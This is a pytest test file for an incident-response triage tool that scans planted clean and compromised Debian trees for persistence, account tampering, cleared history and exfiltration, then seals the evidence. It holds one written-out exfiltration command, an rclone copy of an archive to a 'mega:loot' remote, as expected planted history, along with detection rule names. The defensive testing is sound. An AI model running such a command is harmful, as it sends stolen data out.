"""``triage --root`` on planted Debian trees: a stock server raises nothing; the same server
after an intrusion raises each finding at the file and line that proves it; the archive holds
every artifact as read, hashed, sealed and verifiable; the records reach the lake once."""

from __future__ import annotations

import hashlib
import json
import os
import tarfile
from dataclasses import replace
from pathlib import Path

import pytest

from labwarden.core.values import Severity
from labwarden.core.workspace import Workspace
from labwarden.respond.triage import TriageOptions, TriageResult, run_triage
from labwarden.seal import keys as keystore
from labwarden.seal.keys import trusted_keys
from labwarden.seal.workflow import verify_seal_file
from labwarden.store.lake import Lake
from tests.respond.triage.trees import ATTACKER, compromised, stock


def triage(root: Path, tmp_path: Path, name: str = "case", **kwargs: object) -> TriageResult:
    options = TriageOptions(root=root, output=tmp_path / f"{name}.tar.gz", case="IR-7")
    return run_triage(options, **kwargs)  # type: ignore[arg-type]


def rules(result: TriageResult) -> dict[str, list[tuple[str, str, int | None]]]:
    found: dict[str, list[tuple[str, str, int | None]]] = {}
    for f in result.findings:
        found.setdefault(f.rule, []).append((f.severity.value, f.location.path, f.location.line))
    return found


def test_a_stock_server_raises_nothing(tmp_path: Path) -> None:
    stock(tmp_path / "stock")
    result = triage(tmp_path / "stock", tmp_path)
    assert result.findings == []
    collected = result.collected
    assert {a.name for a in collected.accounts} >= {"root", "alice", "bob"}
    assert len([r for r in collected.logins if r.type == "USER_PROCESS"]) == 5
    assert [(last.user, last.host) for last in collected.lastlog] == [("alice", "10.20.0.15")]
    assert {u.name for u in collected.units} == {"ssh.service", "cron.service"}
    assert all(u.enabled_by for u in collected.units)
    assert [(s.path, s.verdict) for s in collected.setuid] == [
        ("/usr/bin/chage", "stock"),
        ("/usr/bin/passwd", "stock"),
        ("/usr/bin/sudo", "stock"),
    ]
    not_available = {n.artifact for n in result.log.notes if n.kind == "not available"}
    assert {"processes", "sockets", "kernel", "journal"} <= not_available
    assert result.log.host["boot_id"] == "not available (--root)"
    assert result.log.host["hostname"] == "gpu-01"


EXPECTED = {
    "triage.auth.guessing-then-login": ("critical", "/var/log/auth.log", 44),
    "triage.accounts.uid0": ("critical", "/etc/passwd", 12),
    "triage.accounts.no-password": ("high", "/etc/shadow", 13),
    "triage.accounts.sudoers": ("critical", "/etc/sudoers.d/zz-maint", 1),
    "triage.persistence.preload": ("critical", "/etc/ld.so.preload", 1),
    "triage.persistence.cron": ("critical", "/etc/cron.d/sysupdate", 1),
    "triage.persistence.systemd": ("high", "/etc/systemd/system/dbus-update.service", 5),
    "triage.persistence.authorized-keys": ("high", "/root/.ssh/authorized_keys", None),
    "triage.persistence.rc-local": ("high", "/etc/rc.local", 2),
    "triage.persistence.profile": ("high", "/etc/profile.d/zz-motd.sh", 1),
    "triage.history.cleared": ("high", "/root/.bash_history", 8),
    "triage.history.disabled": ("high", "/home/alice/.bash_history", None),
    "triage.files.setuid": ("high", "/var/tmp/.bash", None),
    "triage.auth.new-source": ("medium", "/var/log/auth.log", 44),
}


def test_a_compromised_server_raises_each_finding_where_it_is(tmp_path: Path) -> None:
    compromised(tmp_path / "bad")
    result = triage(tmp_path / "bad", tmp_path)
    found = rules(result)
    for rule, where in EXPECTED.items():
        assert where in found.get(rule, []), (rule, found.get(rule))
    exfil = {line: severity for severity, path, line in found["triage.exfil.history"]}
    assert exfil == {4: "critical", 5: "critical", 6: "critical"}
    breach = next(f for f in result.findings if f.rule == "triage.auth.guessing-then-login")
    assert breach.evidence["source"] == ATTACKER and breach.evidence["attempts"] == 40
    assert breach.evidence["login_user"] == "alice"
    assert breach.evidence["artifact"] == "artifacts/files/var/log/auth.log"
    assert result.findings[0].severity is Severity.CRITICAL


def test_the_catalog_weighs_exfiltration_of_its_assets(
    tmp_path: Path, workspace: Workspace
) -> None:
    root = tmp_path / "bad"
    compromised(root)
    models = root / "data/models/llm-7b"
    models.mkdir(parents=True)
    (models / "config.json").write_text('{"model_type": "llama"}')
    (models / "model.safetensors").write_bytes((8).to_bytes(8, "little") + b'{"a":{}}')
    from labwarden.checks.registry import all_checks
    from labwarden.inventory.policy import workspace_policy
    from labwarden.inventory.scan import run_scan
    from labwarden.inventory.sources.local import LocalSource
    from labwarden.store.catalog import Catalog

    with Catalog.open(workspace.ensure()) as catalog:
        policy = workspace_policy(workspace.policy_path)
        run_scan(catalog, LocalSource([str(root / "data")]), policy, checks=all_checks())
    result = triage(root, tmp_path, workspace=workspace, lake=False)
    scp = next(
        f for f in result.findings if f.rule == "triage.exfil.history" and f.location.line == 6
    )
    assert scp.evidence.get("asset_kind") == "model" and scp.severity is Severity.CRITICAL


def _members(archive: Path) -> dict[str, bytes]:
    with tarfile.open(archive) as tar:
        return {
            m.name: tar.extractfile(m).read()  # type: ignore[union-attr]
            for m in tar.getmembers()
            if m.isfile()
        }


def test_the_archive_holds_every_artifact_hashed_and_no_password_hash(tmp_path: Path) -> None:
    compromised(tmp_path / "bad")
    result = triage(tmp_path / "bad", tmp_path)
    members = _members(result.archive.path)
    top = "case/evidence/"
    manifest = json.loads(members[top + "manifest.json"])
    assert manifest["case"] == "IR-7" and manifest["host"] == "gpu-01"
    listed = {f["path"]: f for f in manifest["files"]}
    on_disk = {n[len(top) :] for n in members if n.startswith(top)} - {"manifest.json"}
    assert set(listed) == on_disk
    for path, record in listed.items():
        assert hashlib.sha256(members[top + path]).hexdigest() == record["sha256"]
    passwd = listed["artifacts/files/etc/passwd"]
    assert passwd["source"] == "/etc/passwd" and passwd["artifact"] == "passwd"
    assert members[top + "artifacts/files/etc/passwd"] == (tmp_path / "bad/etc/passwd").read_bytes()
    shadow = listed["artifacts/files/etc/shadow"]
    assert shadow["redacted"] is True
    assert (
        shadow["source_sha256"]
        == hashlib.sha256((tmp_path / "bad/etc/shadow").read_bytes()).hexdigest()
    )
    everything = (
        b"".join(members.values()) + json.dumps([f.to_dict() for f in result.findings]).encode()
    )
    assert b"$y$j9T$abcdefghijklmnop" not in everything and b"$6$saltsalt$" not in everything
    acquisition = json.loads(members[top + "acquisition.json"])
    assert acquisition["case"] == "IR-7" and acquisition["mode"] == "root"
    assert acquisition["collector"]["tool"] == "labwarden" and acquisition["ended"]
    assert "artifacts/walk/bodyfile.txt" in listed and "artifacts/walk/setuid.tsv" in listed
    sums = (tmp_path / "case.tar.gz.sha256").read_text()
    assert sums == f"{hashlib.sha256(result.archive.path.read_bytes()).hexdigest()}  case.tar.gz\n"


def test_the_bodyfile_lists_recent_changes(tmp_path: Path) -> None:
    compromised(tmp_path / "bad")
    result = triage(tmp_path / "bad", tmp_path)
    body = _members(result.archive.path)["case/evidence/artifacts/walk/bodyfile.txt"].decode()
    names = {line.split("|")[1] for line in body.splitlines()}
    assert {"/etc/ld.so.preload", "/etc/cron.d/sysupdate", "/var/tmp/.bash"} <= names
    # a timestomped file (old mtime, changed now) is listed too: its ctime gives it away
    crontab = next(line for line in body.splitlines() if line.split("|")[1] == "/etc/crontab")
    assert int(crontab.split("|")[8]) < int(crontab.split("|")[9]) - 100 * 86400
    line = next(line for line in body.splitlines() if line.split("|")[1] == "/var/tmp/.bash")
    fields = line.split("|")
    assert len(fields) == 11 and fields[3] == "-rwsr-xr-x" and fields[0] == "0"
    stat = (tmp_path / "bad/var/tmp/.bash").stat()
    assert int(fields[8]) == int(stat.st_mtime) and int(fields[2]) == stat.st_ino


def test_the_evidence_is_sealed_and_verifies(tmp_path: Path, workspace: Workspace) -> None:
    keystore.generate(
        workspace.ensure(), "default", keystore.KeyType.ED25519, None, insecure_plaintext=True
    )
    compromised(tmp_path / "bad")
    result = triage(tmp_path / "bad", tmp_path, workspace=workspace, lake=False)
    assert result.sealed.startswith("sealed with key default")
    trusted = trusted_keys(workspace, [])
    archive = result.archive.path
    outer = verify_seal_file(None, archive, Path(f"{archive}.sigstore.json"), trusted)
    assert outer.verified
    extracted = tmp_path / "x"
    with tarfile.open(archive) as tar:
        tar.extractall(extracted, filter="data")
    evidence = extracted / "case/evidence"
    inner = verify_seal_file(None, evidence, extracted / "case/evidence.sigstore.json", trusted)
    files = [p for p in evidence.rglob("*") if p.is_file()]
    assert inner.verified and inner.files_checked == len(files) > 20
    (evidence / "artifacts/files/etc/passwd").write_text("root:x:0:0::/root:/bin/sh\n")
    tampered = verify_seal_file(None, evidence, extracted / "case/evidence.sigstore.json", trusted)
    assert not tampered.verified
    assert [c.path for c in tampered.changes] == ["artifacts/files/etc/passwd"]


def test_records_go_to_the_lake_once(tmp_path: Path, workspace: Workspace) -> None:
    import duckdb

    compromised(tmp_path / "bad")
    workspace.ensure()
    first = triage(tmp_path / "bad", tmp_path, "one", workspace=workspace)
    assert first.events_stored > 0 and first.lake_error is None
    second = triage(tmp_path / "bad", tmp_path, "two", workspace=workspace)
    assert second.events_stored == 0
    parts = Lake(workspace.lake_path).parts()
    assert parts and all("source=triage" in str(p) for p in parts)
    rows = (
        duckdb.connect()
        .execute(
            "SELECT activity, status, actor_user, src_ip, command, api_service "
            f"FROM read_parquet({[str(p) for p in parts]})"
        )
        .fetchall()
    )
    assert len(rows) == first.events_stored
    assert ("logon", "success", "alice", ATTACKER) in {r[:4] for r in rows}
    assert any(
        r[4] == "rclone copy /tmp/.cache/m.tgz mega:loot" and r[5] == "history" for r in rows
    )
    assert sum(1 for r in rows if r[1] == "failure") == 40


def test_bad_input_is_noted_and_the_run_goes_on(tmp_path: Path) -> None:
    root = tmp_path / "bad"
    stock(root)
    (root / "var/log/wtmp").write_bytes((root / "var/log/wtmp").read_bytes()[:-100] + b"\xff" * 384)
    (root / "var/log/auth.log").write_bytes(os.urandom(5000) + b"\nnot syslog\n")
    (root / "etc/cron.d/loop").symlink_to("loop")
    (root / "home/bob/.bash_history").write_bytes(b"ls\n" * 200_000)
    (root / "etc/group").chmod(0)
    result = triage(root, tmp_path, name="x", **{})
    notes = [(n.artifact, n.kind, n.reason) for n in result.log.notes]
    assert any(a == "wtmp" and k == "corrupt" for a, k, _ in notes)
    assert any(a == "auth-logs" and "not syslog lines" in r for a, _, r in notes)
    assert any(a == "cron-system" and "loop" in r for a, _, r in notes)
    if os.geteuid() != 0:  # root reads a mode-0 file
        assert any(a == "group" and "permission denied" in r for a, _, r in notes)
    assert len([h for h in result.collected.histories if h.account == "bob"]) == 200_000
    missing = tmp_path / "empty"
    (missing / "etc").mkdir(parents=True)
    bare = triage(missing, tmp_path, name="y")
    assert {"passwd", "group"} <= {n.artifact for n in bare.log.notes if n.reason == "not found"}
    assert bare.findings == []


def test_huge_histories_are_cut_and_noted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from labwarden.respond.triage import artifacts

    root = tmp_path / "r"
    stock(root)
    (root / "root/.bash_history").write_bytes(b"x" * 3000 + b"\nid\n")
    shipped = artifacts.load_artifacts()
    small = tuple(replace(a, limit=1000) if a.name == "histories" else a for a in shipped)
    monkeypatch.setattr("labwarden.respond.triage.collect.load_artifacts", lambda: small)
    result = triage(root, tmp_path)
    assert any(n.kind == "truncated" and n.where == "/root/.bash_history" for n in result.log.notes)


def test_output_is_never_overwritten(tmp_path: Path) -> None:
    from labwarden.core.errors import InputError

    stock(tmp_path / "s")
    (tmp_path / "case.tar.gz").write_text("earlier evidence")
    with pytest.raises(InputError, match="never overwritten"):
        triage(tmp_path / "s", tmp_path)
    with pytest.raises(InputError, match="not a folder"):
        run_triage(TriageOptions(root=tmp_path / "nope", output=tmp_path / "n.tar.gz"))
    assert not list(tmp_path.glob(".case*"))  # no staging left behind
